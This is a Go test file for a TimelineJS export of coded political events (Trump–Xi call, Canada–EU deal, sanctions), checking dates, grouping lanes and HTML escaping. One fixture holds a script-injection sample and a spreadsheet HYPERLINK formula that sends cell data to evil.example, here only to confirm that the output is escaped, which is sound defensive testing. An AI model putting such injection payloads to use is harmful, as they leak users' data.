package export_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/attache-app/attache/data/export"
	"github.com/attache-app/attache/data/model"
)

type tlDate struct{ Year, Month, Day string }

type tlFile struct {
	Title struct {
		Text struct{ Headline, Text string } `json:"text"`
	} `json:"title"`
	Events []struct {
		StartDate *tlDate `json:"start_date"`
		EndDate   *tlDate `json:"end_date"`
		Text      struct{ Headline, Text string }
		Group     string `json:"group"`
		UniqueID  string `json:"unique_id"`
	} `json:"events"`
}

func TestWriteTimelineJS(t *testing.T) {
	evs := seedEvents()
	evs = append(evs, export.EventRecord{ID: 5, Date: "2025-01-13", DatePrecision: "week", DateText: "this week",
		Actor: []export.Party{{Name: "Marco Rubio"}}, Recipient: []export.Party{{Name: "China"}}, Event: "ACCUSE", Status: model.StatusConfirmed},
		export.EventRecord{ID: 6, Date: "2024-01-01", EndDate: "2024-12-31", DatePrecision: "year", Event: "SANCTION",
			Actor: []export.Party{{Name: "Joe Biden"}}, Status: model.StatusConfirmed})
	var b bytes.Buffer
	lane := func(ev export.EventRecord) string { return ev.Event.Label() }
	if err := export.WriteTimelineJS(&b, "Seed <timeline>", evs, lane); err != nil {
		t.Fatal(err)
	}
	var f tlFile
	if err := json.Unmarshal(b.Bytes(), &f); err != nil {
		t.Fatalf("not JSON: %v", err)
	}
	if f.Title.Text.Headline != "Seed &lt;timeline&gt;" {
		t.Errorf("title headline = %q", f.Title.Text.Headline)
	}
	if len(f.Events) != 5 {
		t.Fatalf("%d slides, want 5 (the undated event left out)", len(f.Events))
	}
	byID := map[string]int{}
	for i, e := range f.Events {
		byID[e.UniqueID] = i
	}
	if _, ok := byID["event-4"]; ok {
		t.Errorf("the undated event got a slide")
	}
	tests := []struct {
		id              string
		start, end      *tlDate
		headline, group string
		inText, notIn   []string
	}{
		{"event-1", &tlDate{"2025", "1", "17"}, nil, "Donald Trump, Xi Jinping — CONSULT", "CONSULT",
			[]string{"<blockquote>US president-elect Donald Trump and Chinese President Xi Jinping (習近平) discussed",
				`<a href="https://www.taipeitimes.com/News/front/archives/2025/01/18/2003830470">Trump, Xi discuss Taiwan, trade in phone call</a>`,
				"Taipei Times", "2025-01-18", "CAMEO 041"}, nil},
		{"event-2", &tlDate{"2025", "6", "23"}, nil, "Canada — SUPPORT — European Union", "SUPPORT",
			[]string{"Canada and the EU on Monday signed", "CAMEO 057"}, []string{"<a "}},
		{"event-3", &tlDate{"2025", "6", ""}, nil, "New Zealand — SANCTION — Cook Islands", "SANCTION",
			[]string{"&lt;script&gt;", "=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1", "early this month"},
			[]string{"<script>", "javascript:", "<b>"}},
		{"event-5", &tlDate{"2025", "1", "13"}, &tlDate{"2025", "1", "19"}, "Marco Rubio — ACCUSE — China", "ACCUSE", nil, nil},
		{"event-6", &tlDate{"2024", "", ""}, &tlDate{"2024", "", ""}, "Joe Biden — SANCTION", "SANCTION", nil, nil},
	}
	for _, tt := range tests {
		i, ok := byID[tt.id]
		if !ok {
			t.Errorf("no slide %s", tt.id)
			continue
		}
		e := f.Events[i]
		if *e.StartDate != *tt.start {
			t.Errorf("%s start = %+v, want %+v", tt.id, *e.StartDate, *tt.start)
		}
		if (e.EndDate == nil) != (tt.end == nil) || (e.EndDate != nil && *e.EndDate != *tt.end) {
			t.Errorf("%s end = %+v, want %+v", tt.id, e.EndDate, tt.end)
		}
		if e.Text.Headline != tt.headline || e.Group != tt.group {
			t.Errorf("%s headline %q group %q, want %q %q", tt.id, e.Text.Headline, e.Group, tt.headline, tt.group)
		}
		for _, s := range tt.inText {
			if !strings.Contains(e.Text.Text, s) {
				t.Errorf("%s text lacks %q:\n%s", tt.id, s, e.Text.Text)
			}
		}
		for _, s := range tt.notIn {
			if strings.Contains(e.Text.Text, s) {
				t.Errorf("%s text holds %q:\n%s", tt.id, s, e.Text.Text)
			}
		}
	}
	// The raw JSON leaves out the day of a month-precision date entirely.
	if strings.Contains(b.String(), `"day": ""`) || strings.Contains(b.String(), `"month": ""`) {
		t.Errorf("empty date parts written:\n%s", b.String())
	}
}

func TestWriteTimelineJSNoGroups(t *testing.T) {
	var b bytes.Buffer
	if err := export.WriteTimelineJS(&b, "t", seedEvents()[:1], nil); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), `"group"`) {
		t.Errorf("group written without a lane function:\n%s", b.String())
	}
}

func TestWriteTimelineJSWithoutDatedEvents(t *testing.T) {
	for _, evs := range [][]export.EventRecord{nil, seedEvents()[3:]} {
		var b bytes.Buffer
		err := export.WriteTimelineJS(&b, "t", evs, nil)
		if !errors.Is(err, export.ErrNoDatedEvents) || b.Len() != 0 {
			t.Errorf("%d undated events: error %v, %d bytes written; want ErrNoDatedEvents and nothing", len(evs), err, b.Len())
		}
	}
}

func TestLane(t *testing.T) {
	evs := seedEvents()
	tests := []struct {
		lane string
		ev   int
		want string
	}{
		{"actor", 0, "Donald Trump, Xi Jinping"},
		{"pair", 0, "? – USA+CHN"}, // no recipient; countries in the actors' order
		{"pair", 1, "CAN – European Union"},
		{"pair", 2, "COK – NZL"}, // both directions share one lane
		{"type", 2, "SANCTION"},
	}
	for _, tt := range tests {
		f, ok := export.Lane(tt.lane)
		if !ok {
			t.Fatalf("no lane %q", tt.lane)
		}
		if got := f(evs[tt.ev]); got != tt.want {
			t.Errorf("lane %s of event %d = %q, want %q", tt.lane, evs[tt.ev].ID, got, tt.want)
		}
	}
	if _, ok := export.Lane("colour"); ok {
		t.Errorf("unknown lane accepted")
	}
}
